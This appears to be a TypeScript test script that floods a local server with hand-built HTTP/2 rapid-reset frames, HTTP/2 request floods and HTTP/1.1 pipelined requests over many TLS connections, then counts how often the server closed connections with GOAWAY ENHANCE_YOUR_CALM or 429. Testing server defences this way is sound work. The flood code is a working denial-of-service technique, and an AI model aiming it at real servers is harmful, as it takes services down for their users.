// A client that no library would be: frames of HTTP/2 by hand, and pipelined requests of HTTP/1.1.
// node flood-for-test.ts rapid-reset|requests|pipeline PORT CONNECTIONS REQUESTS; prints how its connections ended.
import { connect, type TLSSocket } from 'node:tls'

export interface FloodEnd {
  /** Connections that the server closed, and those that got the reason (GOAWAY with ENHANCE_YOUR_CALM, or 429). */
  readonly closed: number
  readonly calmed: number
}

const enhanceYourCalm = 11
const patienceMs = 60_000

function frame(type: number, flags: number, stream: number, payload = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

const literal = (...texts: string[]): Buffer =>
  Buffer.concat([
    Buffer.from([0]),
    ...texts.map((text) => Buffer.concat([Buffer.from([text.length]), Buffer.from(text)])),
  ])
const headers = Buffer.concat([
  literal(':method', 'GET'),
  literal(':scheme', 'https'),
  literal(':path', '/livez'),
  literal(':authority', 'x'),
])
const request = (index: number): Buffer => frame(1, 5, 2 * index + 1, headers)
const cancel = (index: number): Buffer => frame(3, 0, 2 * index + 1, Buffer.from([0, 0, 0, 8]))
const preface = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0)])

const floods: Readonly<Record<string, (count: number) => Buffer>> = {
  'rapid-reset': (count) => Buffer.concat([preface, ...each(count, (at) => [request(at), cancel(at)])]),
  requests: (count) => Buffer.concat([preface, ...each(count, (at) => [request(at)])]),
  pipeline: (count) => Buffer.from('GET /livez HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(count)),
}

function each(count: number, make: (at: number) => Buffer[]): Buffer[] {
  return Array.from({ length: count }, (_, at) => make(at)).flat()
}

const [, , kind = '', port = '', connections = '', count = ''] = process.argv
const bytes = floods[kind]?.(Number(count)) ?? Buffer.alloc(0)
const ALPNProtocols = [kind === 'pipeline' ? 'http/1.1' : 'h2']

/** Whether the bytes hold 429, or a GOAWAY with that code: its frame is identified by its length, type and stream. */
const isCalmed = (received: Buffer): boolean => {
  if (kind === 'pipeline') return received.includes('HTTP/1.1 429 ')
  for (let at = 0; at + 17 <= received.length; at += 9 + received.readUIntBE(at, 3)) {
    if (received[at + 3] === 7 && received.readUInt32BE(at + 13) === enhanceYourCalm) return true
  }
  return false
}

let isOver = false

async function flood(socket: TLSSocket): Promise<{ isClosed: boolean; isCalmed: boolean }> {
  const received: Buffer[] = []
  socket.on('data', (chunk: Buffer) => received.push(chunk))
  socket.on('error', () => {})
  socket.write(bytes)
  await new Promise<void>((resolve) => socket.on('close', () => resolve()))
  return { isClosed: !isOver, isCalmed: isCalmed(Buffer.concat(received)) }
}

const sockets = Array.from({ length: Number(connections) }, () =>
  connect({ host: '127.0.0.1', port: Number(port), rejectUnauthorized: false, ALPNProtocols }),
)
// All at once, as attackers do.
await Promise.all(
  sockets.map((socket) => new Promise<void>((resolve) => socket.once('secureConnect', resolve))),
)
process.stdout.write('connected\n')
// What this side closes says nothing about the server.
const timer = setTimeout(() => {
  isOver = true
  for (const socket of sockets) socket.destroy()
}, patienceMs)
const ends = await Promise.all(sockets.map(flood))
clearTimeout(timer)
const closed = ends.filter(({ isClosed }) => isClosed)
const end: FloodEnd = {
  closed: closed.length,
  calmed: closed.filter(({ isCalmed }) => isCalmed).length,
}
process.stdout.write(`${JSON.stringify(end)}\n`)
